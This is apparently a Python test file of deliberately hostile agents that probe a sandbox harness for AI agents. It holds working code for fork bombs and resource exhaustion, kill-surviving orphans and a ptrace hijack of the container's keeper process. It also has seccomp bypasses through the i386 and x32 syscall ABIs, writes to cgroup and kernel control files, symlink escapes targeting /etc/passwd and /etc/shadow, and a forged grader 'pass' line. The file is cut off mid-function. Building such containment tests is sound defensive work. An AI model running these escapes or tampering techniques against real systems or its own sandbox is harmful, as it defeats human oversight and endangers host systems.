#!/usr/bin/env python3
"""Hostile agents for the `hostile` suite: one attack per task, chosen by HARNESS_TASK_ID.

Stdlib only. Every agent records what it tried and what the kernel answered (errno names)
in its transcript ($HARNESS_TRANSCRIPT, JSON lines) and as one JSON line on stdout, so the
tests can check what the agent observed from the inside. Agents that replace the
transcript itself (the export escapes) report on stdout only.

Network attempts only ever target the docker0 gateway 172.17.0.1 and 127.0.0.1.
Writes to kernel files either only *open* the file for writing (dangerous ones) or write a
harmless value; with a correctly built sandbox every one of them fails.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import hashlib
import json
import mmap
import os
import signal
import socket
import sqlite3
import stat
import struct
import sys
import threading
import time

TASK = os.environ.get("HARNESS_TASK_ID", "benign")
WORK = os.environ.get("HARNESS_WORKDIR", "/work")
STATE = os.environ.get("HARNESS_STATE", f"{WORK}/state.db")
TRANSCRIPT = os.environ.get("HARNESS_TRANSCRIPT", f"{WORK}/transcript.jsonl")
RUN = os.environ.get("HARNESS_RUN_ID", "norun")
MARKER = f"hostile-orphan-{RUN}"  # the tests look for this in host /proc/*/cmdline
MiB = 1 << 20


def err_name(e: BaseException) -> str:
    if isinstance(e, OSError) and e.errno is not None:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__


def record(obj: dict, transcript: bool = True) -> None:
    """One JSON line on stdout and (unless the transcript is the attack) in the transcript."""
    line = json.dumps({"task": TASK, **obj}, sort_keys=True)
    if transcript:
        try:
            with open(TRANSCRIPT, "a") as f:
                f.write(line + "\n")
        except OSError as e:
            line = json.dumps({"task": TASK, "transcript_error": err_name(e), **obj}, sort_keys=True)
    print(line, flush=True)


def ignore_signals() -> None:
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGPIPE):
        signal.signal(s, signal.SIG_IGN)


# --------------------------------------------------------------------------- resources


def fork_bomb() -> None:
    record({"event": "start"})
    ignore_signals()
    while True:
        try:
            os.fork()
        except OSError:
            pass


def memory_hog() -> None:
    """Touch 64 MiB at a time, far past any ceiling; progress lines show how far it got."""
    chunks = []
    for i in range(1, 129):  # up to 8 GiB
        chunks.append(b"\x01" * (64 * MiB))  # bytes * n writes every page (calloc would not)
        record({"event": "allocated", "mib": 64 * i})
    record({"event": "survived", "mib": 64 * len(chunks)})


def _writable_targets() -> list[str]:
    home = os.environ.get("HOME", "/work")
    targets = ["/work", "/tmp", "/dev/shm", "/var/tmp", home, "/run", "/var/lock", "/", "/etc", "/harness/in", "/opt/hostile"]
    try:
        for line in open("/proc/self/mounts"):
            mnt, fstype = line.split()[1], line.split()[2]
            if fstype == "tmpfs" and mnt not in targets and not mnt.startswith(("/proc", "/sys", "/dev/mqueue")):
                targets.append(mnt)
    except OSError:
        pass
    seen, out = set(), []
    for t in targets:
        rp = os.path.realpath(t)
        if rp not in seen:
            seen.add(rp)
            out.append(t)
    return out


def fill_disk() -> None:
    """Write 1 MiB blocks into every candidate path until the kernel says no."""
    results = {}
    block = b"\xa5" * MiB
    fills = []
    for d in _writable_targets():
        path = os.path.join(d, "hostile-fill")
        n = 0
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        except OSError as e:
            results[d] = {"bytes": 0, "stopped_by": err_name(e)}
            continue
        fills.append(path)
        why = "limit"
        try:
            while n < 4096 * MiB:
                n += os.write(fd, block)
        except OSError as e:
            why = err_name(e)
        finally:
            os.close(fd)
        results[d] = {"bytes": n, "stopped_by": why}
    # free one block of /work so the transcript can be written; everything else stays full
    try:
        w = os.path.join(WORK, "hostile-fill")
        os.truncate(w, max(0, os.path.getsize(w) - 2 * MiB))
    except OSError:
        pass
    record({"event": "filled", "paths": results, "home": os.environ.get("HOME")})


def stdout_flood() -> None:
    """GBs to stdout (and some to stderr) until killed."""
    record({"event": "start"})
    ignore_signals()
    buf = b"y" * MiB
    ebuf = b"e" * (64 * 1024)
    i = 0
    while True:
        os.write(1, buf)
        i += 1
        if i % 8 == 0:
            os.write(2, ebuf)


def _alive(pid: int) -> bool:
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def _orphan_main(kind: str) -> None:
    """Runs in an orphan (re-exec'd with MARKER in its argv so the host can see it)."""
    ignore_signals()
    if kind == "hijacked":
        # we are the container's keeper process, taken over: wait until the harness has
        # killed the workload (the agent and the sacrificial orphan), then tamper
        devnull = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        watched = [int(x) for x in sys.argv[4].split(",") if x]
        t0 = time.time()
        while any(_alive(p) for p in watched):
            time.sleep(0.005)
        n = 0
        while True:
            n += 1
            try:
                with open(TRANSCRIPT + ".new", "w") as f:
                    f.write(json.dumps({"task": "hijack-keeper", "event": "survived-kill-tree", "pid": os.getpid(), "n": n,
                                        "after_s": round(time.time() - t0, 3)}) + "\n")
                os.replace(TRANSCRIPT + ".new", TRANSCRIPT)
            except OSError:
                pass
            time.sleep(0.005)
    if kind == "quiet":
        # let go of the agent's stdout: the exec ends when the agent exits, this keeps running
        devnull = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        try:  # never follow a symlink another orphan put there: copy only our own state
            fd = os.open(STATE, os.O_RDONLY | os.O_NOFOLLOW)
            saved = os.read(fd, 1 << 24)
            os.close(fd)
        except OSError:
            saved = b""
        tag = str(os.getpid())
        n = 0
        while True:
            n += 1
            try:
                with open(os.path.join(WORK, ".hb"), "w") as f:
                    f.write(str(n))
                # flip the state between a symlink to /etc/passwd and a regular file, hoping
                # the export catches the symlink or a half-written file
                tmp = os.path.join(WORK, ".flip" + tag)
                if n % 2:
                    os.symlink("/etc/passwd", tmp)
                else:
                    with open(tmp, "wb") as f:
                        f.write(saved)
                os.replace(tmp, STATE)
            except OSError:
                pass
            time.sleep(0.01)
    else:
        # keep the agent's stdout open and keep talking
        while True:
            try:
                os.write(1, b"orphan still here\n")
            except OSError:
                pass
            time.sleep(0.05)


def sigterm_orphans() -> None:
    """Ignore SIGTERM, double-fork + setsid orphans that outlive the agent, then exit 0."""
    ignore_signals()
    spawned = []
    for kind in ("loud", "quiet", "quiet"):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                os.close(r)
                os.write(w, str(os.getpid()).encode())
                os.close(w)
                os.execv(sys.executable, [sys.executable, __file__, "--orphan", kind, MARKER])
            os._exit(0)
        os.close(w)
        os.waitpid(pid, 0)
        spawned.append({"kind": kind, "pid": int(os.read(r, 32) or b"0")})
        os.close(r)
    record({"event": "orphans", "spawned": spawned, "marker": MARKER, "agent_pid": os.getpid()})
    # exit at once: the orphans are reparented to the container's init


def sleep_forever() -> None:
    record({"event": "start"})
    ignore_signals()
    while True:
        time.sleep(3600)


def cpu_threads() -> None:
    """Many threads in hashlib (which releases the GIL on large buffers): every core we can get."""
    ignore_signals()
    info = {"cpu_count": os.cpu_count(), "affinity": sorted(os.sched_getaffinity(0))}
    # try to widen the cpuset: must fail or change nothing
    try:
        os.sched_setaffinity(0, set(range(os.cpu_count() or 1)))
        info["setaffinity"] = "ok"
    except OSError as e:
        info["setaffinity"] = err_name(e)
    info["affinity_after"] = sorted(os.sched_getaffinity(0))
    try:
        os.nice(-5)
        info["nice_up"] = "ok"
    except OSError as e:
        info["nice_up"] = err_name(e)
    record({"event": "start", "threads": 48, **info})
    buf = os.urandom(MiB)

    def burn() -> None:
        while True:
            hashlib.sha256(buf).digest()

    for _ in range(48):
        threading.Thread(target=burn, daemon=True).start()
    while True:
        time.sleep(3600)


def _container_procs() -> dict[int, str]:
    out = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                out[int(p)] = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode().strip()
            except OSError:
                pass
    return out


def kill_init() -> None:
    """Signal every process we may (kill -1) and the init itself: if the container's init
    and its keeper run as our uid, the container dies under the harness."""
    before = _container_procs()
    res = {}
    for name, pid, sig in (("kill(1, SIGTERM)", 1, signal.SIGTERM), ("kill(-1, SIGKILL)", -1, signal.SIGKILL)):
        try:
            os.kill(pid, sig)
            res[name] = "ok"
        except OSError as e:
            res[name] = err_name(e)
    time.sleep(0.5)
    record({"event": "kill-init", "signals": res, "before": sorted(before.values()), "after": sorted(_container_procs().values())})


class _Regs(ctypes.Structure):  # struct user_regs_struct, x86_64
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def _hijack(pid: int, argv: list[str]) -> str:
    """Make process ``pid`` (same uid, blocked in a syscall) execve ``argv``: attach with
    ptrace, write the strings below its stack pointer, point rip back at its `syscall`."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return "attach:" + errno.errorcode.get(ctypes.get_errno(), "?")
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
        regs = _Regs()
        if libc.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
            return "getregs:" + errno.errorcode.get(ctypes.get_errno(), "?")
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            mem.seek(regs.rip - 2)
            if mem.read(2) != b"\x0f\x05":
                return "not stopped after a syscall instruction"
            base = (regs.rsp - 8192) & ~0xF
            blob, ptrs = b"", []
            for a in argv:
                ptrs.append(base + len(blob))
                blob += a.encode() + b"\0"
            arr = (base + len(blob) + 15) & ~0xF
            mem.seek(base)
            mem.write(blob)
            mem.seek(arr)
            mem.write(b"".join(p.to_bytes(8, "little") for p in ptrs) + b"\0" * 8)
        regs.rip -= 2
        regs.rax, regs.orig_rax = 59, (1 << 64) - 1  # execve; no syscall restart
        regs.rdi, regs.rsi, regs.rdx = ptrs[0], arr, 0
        if libc.ptrace(13, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_SETREGS
            return "setregs:" + errno.errorcode.get(ctypes.get_errno(), "?")
        return "hijacked"
    except OSError as e:
        return err_name(e)
    finally:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH


def hijack_keeper() -> None:
    """Take over the container's long-lived keeper process (`sleep infinity`, which the
    harness spares when it kills the workload) with ptrace, so code of ours survives the
    kill and runs while the final state is exported. A sacrificial ordinary orphan holds
    stdout so the harness does kill the tree; the hijacked keeper reports whether it
    outlived that kill by writing into the transcript."""
    ignore_signals()
    procs = _container_procs()
    keeper = [p for p, c in procs.items() if c == "sleep infinity"]
    res: dict = {"keeper": keeper, "uids": {}}
    for p in (1, *keeper):
        try:
            res["uids"][p] = [ln.split()[1] for ln in open(f"/proc/{p}/status") if ln.startswith("Uid:")][0]
        except (OSError, IndexError):
            res["uids"][p] = None
    pid = os.fork()
    if pid == 0:  # a sacrificial ordinary orphan that holds stdout
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, __file__, "--orphan", "loud", MARKER])
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.2)
    loud = [p for p, c in _container_procs().items() if "--orphan loud" in c]
    res["sacrificial"] = loud
    res["hijack"] = {k: _hijack(k, [sys.executable, __file__, "--orphan", "hijacked", MARKER, ",".join(map(str, [os.getpid(), *loud]))])
                     for k in keeper} if keeper else "no keeper found"
    time.sleep(0.3)
    res["after"] = sorted(_container_procs().values())
    record({"event": "hijack", **res})


# --------------------------------------------------------------------------- network


def _connect(family: int, kind: int, addr, timeout: float = 1.0) -> str:
    try:
        s = socket.socket(family, kind)
    except OSError as e:
        return "socket:" + err_name(e)
    try:
        s.settimeout(timeout)
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"hostile", addr)
            s.recv(16)
        else:
            s.connect(addr)
        return "connected"
    except socket.timeout:
        return "TIMEOUT"
    except OSError as e:
        return err_name(e)
    finally:
        s.close()


def network_egress() -> None:
    """Only the docker0 gateway and loopback: never a public or other private address."""
    res: dict = {"interfaces": sorted(os.listdir("/sys/class/net"))}
    tcp = {}
    for host in ("172.17.0.1", "127.0.0.1"):
        for port in (22, 53, 80, 443, 2375, 2376, 8080):
            tcp[f"{host}:{port}"] = _connect(socket.AF_INET, socket.SOCK_STREAM, (host, port))
    res["tcp"] = tcp
    res["udp"] = {f"{h}:53": _connect(socket.AF_INET, socket.SOCK_DGRAM, (h, 53), 0.5) for h in ("172.17.0.1", "127.0.0.1")}
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        res["raw_icmp"] = "opened"
    except OSError as e:
        res["raw_icmp"] = err_name(e)
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        res["packet"] = "opened"
    except OSError as e:
        res["packet"] = err_name(e)
    unix = {}
    for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/docker/containerd/containerd.sock"):
        unix[p] = _connect(socket.AF_UNIX, socket.SOCK_STREAM, p)
    res["unix"] = unix
    # abstract unix sockets live in the network namespace: the host's must be invisible
    abstract = []
    try:
        for line in open("/proc/net/unix").readlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and parts[7].startswith("@"):
                abstract.append(parts[7])
    except OSError:
        pass
    res["abstract_sockets"] = abstract
    res["abstract_connect"] = {a: _connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + a[1:]) for a in abstract[:20]}
    res["reached"] = sorted(k for k, v in {**tcp, **res["udp"], **unix}.items() if v == "connected")
    record({"event": "network", **res})


# --------------------------------------------------------------------------- kernel surface (seccomp)

# x86_64 and aarch64 share these numbers (io_uring came after the tables were unified)
NR_IO_URING_SETUP, NR_IO_URING_ENTER, NR_IO_URING_REGISTER = 425, 426, 427
NR_SOCKET = {"x86_64": 41, "aarch64": 198}.get(os.uname().machine)


def _syscall(nr: int, *args: int) -> str:
    """A raw syscall through libc: its return value, or the errno name."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    rc = libc.syscall(ctypes.c_long(nr), *(ctypes.c_long(a) for a in args))
    if rc >= 0:
        return f"ok:{rc}"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def io_uring() -> None:
    """Set up an io_uring (8 entries), then enter and register on a bad fd: any answer but
    EPERM from the filter means the kernel's io_uring code is reachable."""
    params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
    setup = _syscall(NR_IO_URING_SETUP, 8, ctypes.addressof(params))
    if setup.startswith("ok:"):
        os.close(int(setup[3:]))
    record({"event": "io_uring", "setup": setup,
            "enter": _syscall(NR_IO_URING_ENTER, -1, 0, 0, 0, 0, 0),  # EBADF when reachable
            "register": _syscall(NR_IO_URING_REGISTER, -1, 0, 0, 0)})


def vsock() -> None:
    """Open an AF_VSOCK socket and connect to the host (CID 2) port 1234; also the raw
    syscall with the family's upper 32 bits set (the kernel only sees the int's low bits)."""
    res: dict = {}
    for name, kind in (("stream", socket.SOCK_STREAM), ("dgram", socket.SOCK_DGRAM)):
        try:
            s = socket.socket(socket.AF_VSOCK, kind)
        except OSError as e:
            res[f"socket_{name}"] = err_name(e)
            continue
        res[f"socket_{name}"] = "opened"
        if kind == socket.SOCK_STREAM:
            try:
                s.settimeout(2)
                s.connect((2, 1234))
                res["connect"] = "connected"
            except TimeoutError:
                res["connect"] = "TIMEOUT"
            except OSError as e:
                res["connect"] = err_name(e)
        s.close()
    res.setdefault("connect", "no socket")
    if NR_SOCKET is not None:
        hi = _syscall(NR_SOCKET, (1 << 32) | socket.AF_VSOCK, socket.SOCK_STREAM, 0)
        if hi.startswith("ok:"):
            os.close(int(hi[3:]))
        res["socket_hi32"] = hi
    record({"event": "vsock", **res})


# The i386 ABI from this 64-bit process: `int 0x80` with the i386 syscall numbers (the filter
# sees AUDIT_ARCH_I386, as for a 32-bit binary). A stub in executable memory moves
# (nr, a1..a6) from the SysV registers to eax, ebx, ecx, edx, esi, edi, ebp (all 64 bits:
# the kernel reads the low 32). Pointers must lie below 4 GiB: a MAP_32BIT page holds them.
NR32 = {"getpid": 20, "socketcall": 102, "clone": 120, "unshare": 310, "setns": 346, "socket": 359,
        "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "clone3": 435}
X32_BIT = 0x40000000  # x32 ABI: the x86_64 `syscall` with this bit in the number
SYS_SOCKET = 1  # socketcall's sub-call
CLONE_NEWUSER = 0x10000000
_INT80_STUB = bytes.fromhex(
    "53" "55"                # push rbx; push rbp
    "89f8"                   # mov eax, edi
    "4889f3"                 # mov rbx, rsi
    "4989d2" "4889ca" "4c89d1"  # mov r10, rdx; mov rdx, rcx; mov rcx, r10
    "4c89c6" "4c89cf"        # mov rsi, r8; mov rdi, r9
    "488b6c2418"             # mov rbp, [rsp+24] (the 7th argument)
    "cd80"                   # int 0x80
    "4863c0"                 # movsxd rax, eax
    "5d" "5b" "c3")          # pop rbp; pop rbx; ret


class Int80:
    """Syscalls through the i386 entry point, each in a forked child (a filter that kills the
    caller only takes the child): ``ok:N`` (sockets: ``ok:N:domain=D``, a vsock socket also
    tries CID 2 port 1234), an errno name, or ``killed:SIGNAME``."""

    def __init__(self) -> None:
        self.code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        self.code.write(_INT80_STUB)
        self.low = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | getattr(mmap, "MAP_32BIT", 0x40),
                             prot=mmap.PROT_READ | mmap.PROT_WRITE)
        self.base = ctypes.addressof(ctypes.c_char.from_buffer(self.low))
        assert self.base < 1 << 32, hex(self.base)
        addr = ctypes.addressof(ctypes.c_char.from_buffer(self.code))
        self.fn = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7)(addr)
        self.used = 0

    def put(self, data: bytes) -> int:
        """Copy ``data`` into the low page; its address (below 4 GiB)."""
        off = self.used
        self.low[off:off + len(data)] = data
        self.used += (len(data) + 15) & ~15
        return self.base + off

    def _raw(self, nr: int, args: tuple[int, ...], abi: str) -> int:
        if abi == "i386":
            return self.fn(nr, *args, *[0] * (6 - len(args)))
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        rc = libc.syscall(ctypes.c_long(nr), *(ctypes.c_long(a) for a in args))
        return -ctypes.get_errno() if rc < 0 else rc

    def call(self, nr: int, *args: int, abi: str = "i386") -> str:
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:  # child: make the call, report on the pipe, never return
            try:
                os.close(r)
                rc = self._raw(nr, args, abi)
                if rc == 0 and nr == NR32["clone"]:
                    os._exit(0)  # the clone's own child
                out = f"ok:{rc}" if rc >= 0 else errno.errorcode.get(-rc, str(-rc))
                if rc >= 0:
                    out += self._socket_facts(rc)
                os.write(w, out.encode())
            finally:
                os._exit(0)
        os.close(w)
        with os.fdopen(r, "rb") as f:
            out = f.read().decode(errors="replace")
        _, status = os.waitpid(pid, 0)
        if os.WIFSIGNALED(status):
            return f"killed:{signal.Signals(os.WTERMSIG(status)).name}"
        return out or f"exit:{os.waitstatus_to_exitcode(status)}"

    @staticmethod
    def _socket_facts(fd: int) -> str:
        try:
            s = socket.socket(fileno=fd)
        except OSError:
            return ""  # not a socket (a pid, a ring fd)
        out = f":domain={s.getsockopt(socket.SOL_SOCKET, socket.SO_DOMAIN)}"
        if s.family == socket.AF_VSOCK and s.type == socket.SOCK_STREAM:
            try:
                s.settimeout(2)
                s.connect((2, 1234))
                out += ":connect=connected"
            except TimeoutError:
                out += ":connect=TIMEOUT"
            except OSError as e:
                out += f":connect={err_name(e)}"
        return out


def vsock32() -> None:
    """AF_VSOCK, io_uring and a new user namespace through the i386 ABI (`int 0x80`): the
    socket multiplexer `socketcall(SYS_SOCKET, {40, type, 0})`, direct `socket` (359) with
    family 40 (also with rbx's upper 32 bits set), `io_uring_setup/enter/register`,
    `unshare`/`clone` with CLONE_NEWUSER, `setns`, `clone3`; and `socket(40)` through the
    x32 ABI. `getpid` and `socket(AF_INET)` are the controls (the ABI itself works)."""
    if os.uname().machine != "x86_64":
        record({"event": "vsock32", "skipped": f"no int 0x80 on {os.uname().machine}"})
        return
    a = Int80()

    def sock(family: int, kind: int) -> int:  # socketcall's argument block: {family, type, protocol}
        return a.put(struct.pack("<3I", family, kind, 0))

    res = {
        "getpid": a.call(NR32["getpid"]),
        "socketcall_vsock_stream": a.call(NR32["socketcall"], SYS_SOCKET, sock(socket.AF_VSOCK, socket.SOCK_STREAM)),
        "socketcall_vsock_dgram": a.call(NR32["socketcall"], SYS_SOCKET, sock(socket.AF_VSOCK, socket.SOCK_DGRAM)),
        "socketcall_inet": a.call(NR32["socketcall"], SYS_SOCKET, sock(socket.AF_INET, socket.SOCK_STREAM)),
        "socket_vsock": a.call(NR32["socket"], socket.AF_VSOCK, socket.SOCK_STREAM, 0),
        "socket_vsock_hi32": a.call(NR32["socket"], (1 << 32) | socket.AF_VSOCK, socket.SOCK_STREAM, 0),
        "socket_inet": a.call(NR32["socket"], socket.AF_INET, socket.SOCK_STREAM, 0),
        "io_uring_setup": a.call(NR32["io_uring_setup"], 8, a.put(bytes(120))),
        "io_uring_enter": a.call(NR32["io_uring_enter"], 0xFFFFFFFF, 0, 0, 0, 0, 0),  # EBADF when reachable
        "io_uring_register": a.call(NR32["io_uring_register"], 0xFFFFFFFF, 0, 0, 0),
        "unshare_newuser": a.call(NR32["unshare"], CLONE_NEWUSER),
        "clone_newuser": a.call(NR32["clone"], CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0),
        "setns": a.call(NR32["setns"], 0, CLONE_NEWUSER),
        "clone3": a.call(NR32["clone3"], a.put(bytes(88)), 88),
        "x32_socket_vsock": a.call(X32_BIT | 41, socket.AF_VSOCK, socket.SOCK_STREAM, 0, abi="x32"),
    }
    res["opened_vsock"] = sorted(k for k, v in res.items() if ":domain=40" in v)
    record({"event": "vsock32", **res})


# --------------------------------------------------------------------------- system writes

# (path, value): value None = only open for writing (never write to a dangerous file)
SYSTEM_TARGETS = [
    ("/etc/passwd", None),
    ("/etc/hostile-created", "x"),
    ("/usr/bin/tar", None),  # the exporter the harness runs
    ("/usr/local/bin/hostile-created", "x"),
    ("/opt/hostile/hostile.py", None),
    ("/harness/in/prompt.txt", None),  # host bind mount (read-only)
    ("/harness/in/hostile-created", "x"),
    ("/proc/sys/kernel/core_pattern", "core-hostile-%p"),
    ("/proc/sys/kernel/hostname", "hostile"),
    ("/proc/sys/vm/drop_caches", None),
    ("/proc/sysrq-trigger", None),
    ("/proc/1/oom_score_adj", "-1000"),
    ("/sys/kernel/uevent_helper", None),
    ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"),
    ("/sys/fs/cgroup/memory/memory.memsw.limit_in_bytes", "-1"),
    ("/sys/fs/cgroup/pids/pids.max", "max"),
    ("/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "-1"),
    ("/sys/fs/cgroup/cpu,cpuacct/cpu.cfs_quota_us", "-1"),
    ("/sys/fs/cgroup/cpuset/cpuset.cpus", "0"),
    ("/sys/fs/cgroup/memory.max", "max"),
    ("/sys/fs/cgroup/pids.max", "max"),
    ("/sys/fs/cgroup/cpu.max", "max"),
    ("/sys/fs/cgroup/cgroup.procs", None),
    ("/sys/fs/cgroup/hostile-child/cgroup.procs", None),
]


def _try_write(path: str, value: str | None) -> str:
    try:
        fd = os.open(path, os.O_WRONLY | (os.O_CREAT if value == "x" else 0), 0o600)
    except OSError as e:
        return err_name(e)
    try:
        if value is None:
            return "OPENED"
        os.write(fd, value.encode())
        return "WRITTEN"
    except OSError as e:
        return "OPENED+" + err_name(e)
    finally:
        os.close(fd)


def _libc_call(name: str, *args) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    rc = getattr(libc, name)(*args)
    if rc == 0:
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def write_system() -> None:
    """Write to the root fs, the input bind mount, /proc and /sys; try the syscalls that
    would lift the restrictions (new user namespace, mount, chroot, setuid)."""
    writes = {p: _try_write(p, v) for p, v in SYSTEM_TARGETS}
    for p in sorted(glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")):
        writes[p] = _try_write(p, None)
    try:
        os.mkdir("/sys/fs/cgroup/memory/hostile-child")
        writes["mkdir /sys/fs/cgroup/memory/hostile-child"] = "CREATED"
    except OSError as e:
        writes["mkdir /sys/fs/cgroup/memory/hostile-child"] = err_name(e)
    os.makedirs(os.path.join(WORK, "mnt"), exist_ok=True)
    calls = {
        "unshare(CLONE_NEWUSER)": _libc_call("unshare", 0x10000000),
        "unshare(CLONE_NEWNS)": _libc_call("unshare", 0x00020000),
        "mount(tmpfs)": _libc_call("mount", b"none", os.path.join(WORK, "mnt").encode(), b"tmpfs", 0, None),
        "mount(cgroup)": _libc_call("mount", b"cgroup", os.path.join(WORK, "mnt").encode(), b"cgroup", 0, b"memory"),
        "chroot": _libc_call("chroot", WORK.encode()),
        "setuid(0)": _libc_call("setuid", 0),
        "mknod(char 1:3)": _libc_call("mknod", os.path.join(WORK, "null").encode(), stat.S_IFCHR | 0o666, os.makedev(1, 3)),
    }
    record({"event": "system", "writes": writes, "calls": calls, "uid": os.getuid(),
            "core_pattern_seen": open("/proc/sys/kernel/core_pattern").read().strip()})


# --------------------------------------------------------------------------- export escapes


def _replace(path: str, make) -> str:
    try:
        if os.path.lexists(path):
            if os.path.isdir(path) and not os.path.islink(path):
                os.rmdir(path)
            else:
                os.unlink(path)
        make(path)
        return "done"
    except OSError as e:
        return err_name(e)


def export_symlink_passwd() -> None:
    res = {
        "state.db": _replace(STATE, lambda p: os.symlink("/etc/passwd", p)),
        "transcript.jsonl": _replace(TRANSCRIPT, lambda p: os.symlink("../../../../../../../etc/passwd", p)),
    }
    try:
        os.link("/etc/passwd", os.path.join(WORK, "passwd-hardlink"))
        res["hardlink /etc/passwd"] = "done"
    except OSError as e:
        res["hardlink /etc/passwd"] = err_name(e)
    record({"event": "export-escape", "made": res}, transcript=False)


def export_symlink_host() -> None:
    res = {
        "state.db": _replace(STATE, lambda p: os.symlink("/var/lib/docker/volumes/harness/_data/state.db", p)),
        "transcript.jsonl": _replace(TRANSCRIPT, lambda p: os.symlink("/proc/1/root/etc/shadow", p)),
    }
    record({"event": "export-escape", "made": res}, transcript=False)


def export_special() -> None:
    res = {"state.db": _replace(STATE, lambda p: os.mkfifo(p, 0o644))}
    for what, mode, dev in (("char 1:3", stat.S_IFCHR, os.makedev(1, 3)), ("block 8:0", stat.S_IFBLK, os.makedev(8, 0))):
        try:
            os.mknod(os.path.join(WORK, "dev-" + what.split()[0]), mode | 0o666, dev)
            res["mknod " + what] = "done"
        except OSError as e:
            res["mknod " + what] = err_name(e)

    def sock(p: str) -> None:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(p)
        s.close()

    res["transcript.jsonl"] = _replace(TRANSCRIPT, sock)
    record({"event": "export-escape", "made": res}, transcript=False)


def export_dir() -> None:
    def tree(p: str) -> None:
        os.makedirs(os.path.join(p, "a", "b"))
        os.symlink("/etc/passwd", os.path.join(p, "passwd"))
        os.symlink("../../../../../etc/passwd", os.path.join(p, "a", "b", "up"))
        with open(os.path.join(p, "x"), "w") as f:
            f.write("inside a directory named state.db\n")

    res = {"state.db": _replace(STATE, tree)}
    res["transcript.jsonl"] = _replace(TRANSCRIPT, lambda p: os.link(os.path.join(STATE, "x"), p))
    record({"event": "export-escape", "made": res}, transcript=False)


def export_wal() -> None:
    """The runner also exports state.db-wal and folds it into the state on the host: make it
    a symlink to /etc/passwd (state.db itself stays the untouched fixture)."""
    res = {"state.db-wal": _replace(STATE + "-wal", lambda p: os.symlink("/etc/passwd", p))}
    record({"event": "export-escape", "made": res})


def export_giant() -> None:
    """A 100 MiB state (over the 64 MiB export cap) and a sparse 1 TiB transcript."""
    res = {}
    try:
        with open(STATE + ".new", "wb") as f:
            f.write(b"SQLite format 3\x00")
            for _ in range(100):
                f.write(b"\x00" * MiB)
        os.replace(STATE + ".new", STATE)
        res["state.db"] = os.path.getsize(STATE)
    except OSError as e:
        res["state.db"] = err_name(e)
    try:
        with open(TRANSCRIPT, "wb") as f:
            f.write(b'{"task": "export-giant"}\n')
            f.truncate(1 << 40)
        res["transcript.jsonl"] = os.path.getsize(TRANSCRIPT)
    except OSError as e:
        res["transcript.jsonl"] = err_name(e)
    record({"event": "export-escape", "made": res}, transcript=False)


def export_malformed() -> None:
    """A state with a SQLite header and garbage after it, and a binary transcript."""
    with open(STATE, "wb") as f:
        f.write(b"SQLite format 3\x00" + bytes((i * 7 + 3) % 256 for i in range(64 * 1024)))
    with open(TRANSCRIPT, "wb") as f:
        f.write(b'{"passed": true, "grade": "pass"}\n\x00\xff\xfe../../../etc/passwd\x00\n' + bytes(range(256)) * 16)
    record({"event": "export-escape", "made": {"state.db": "garbage", "transcript.jsonl": "binary"}}, transcript=False)


# --------------------------------------------------------------------------- crafted final states
# Each leaves a state.db built to hurt whoever reads it. The grader reads it inside this
# sandbox, under the profile's grade envelope, after this agent is dead.


def _recreate_job(expr: str, rows: int = 1) -> None:
    """Replace the fixture table `job` (id, v) by one whose column v is generated by ``expr``.
    The rows are inserted under a cheap expression; then the schema text is rewritten
    (writable_schema), so the cost is paid by whoever reads the file, not by this agent."""
    c = sqlite3.connect(STATE)
